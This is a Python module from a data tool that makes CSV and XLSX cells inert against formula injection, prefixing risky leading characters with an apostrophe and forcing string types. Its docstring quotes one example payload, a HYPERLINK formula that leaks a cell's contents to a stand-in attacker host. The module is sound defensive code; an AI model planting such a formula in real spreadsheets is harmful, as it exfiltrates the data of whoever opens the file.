"""The cells of every CSV and XLSX file the tool writes: text a spreadsheet would run is made inert.

One rule (errors.safe_cell: text starting with = + - @, a tab or a carriage return gets an apostrophe)
applied by every writer through the helpers here, so that a name someone typed into an imported file
(`=HYPERLINK("http://evil.example/?leak="&A1,"x")`) never comes back out as a live formula, whether in
open data, a report, a ratings template or the XLSForm sent to phones. In XLSX the neutralised text is
also stored with the string type, so that no spreadsheet reads it as a formula either way.

In store/ (the first stage) because every later stage writes a sheet or a CSV; the stage itself has no
reason to call these.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

from c2c_monitor.errors import FORMULA_START, safe_cell, write_rows

if TYPE_CHECKING:
    import polars as pl
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["csv_text", "frame_csv", "neutralised", "safe_cell", "safe_expr", "sheet_append", "sheet_set", "xml_text"]

# Characters the XLSX format cannot hold at all (openpyxl raises on them): C0 controls but tab, LF, CR.
# Imports refuse them in names; text that reaches a writer another way (a --reason typed on the command
# line) gets the replacement character rather than a crash halfway through a workbook.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_expr(column: str) -> Any:
    """`safe_cell` as a polars expression, for whole columns at once."""
    import polars as pl

    c = pl.col(column)
    starts = "^[" + "".join(re.escape(ch) for ch in FORMULA_START) + "]"
    return pl.when(c.str.contains(starts)).then(pl.lit("'") + c).otherwise(c).alias(column)


def neutralised(df: pl.DataFrame) -> pl.DataFrame:
    """Every text column through `safe_expr`; numbers, dates and booleans are left alone."""
    import polars as pl

    strings = [c for c, t in df.schema.items() if t == pl.String]
    return df.with_columns(safe_expr(c) for c in strings)


def frame_csv(df: pl.DataFrame) -> str:
    """A frame as CSV text, text cells neutralised."""
    return neutralised(df).write_csv()


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """Rows as CSV text (LF line ends), every cell through `safe_cell`."""
    buf = io.StringIO()
    write_rows(buf, rows)
    return buf.getvalue()


def xml_text(text: str) -> str:
    """Text XML can hold (XLSX is XML too): the control characters it cannot become U+FFFD."""
    return _XLSX_ILLEGAL.sub("\ufffd", text)


def _xlsx_value(value: object) -> object:
    value = safe_cell(value)
    if isinstance(value, str):
        value = xml_text(value)
    return value


def sheet_set(ws: Worksheet, row: int, column: int, value: object) -> None:
    """One cell: neutralised, and text typed as a string so that no reader takes it for a formula."""
    v: Any = _xlsx_value(value)  # the writers pass text, numbers and None
    cell = ws.cell(row, column, v)
    if isinstance(v, str):
        cell.data_type = "s"


def sheet_append(ws: Worksheet, values: Sequence[object]) -> None:
    """A row below the last one written: neutralised, and its text typed as strings."""
    ws.append([_xlsx_value(v) for v in values])
    for cell in next(ws.iter_rows(min_row=ws.max_row, max_row=ws.max_row, max_col=max(len(values), 1))):
        if isinstance(cell.value, str):
            cell.data_type = "s"
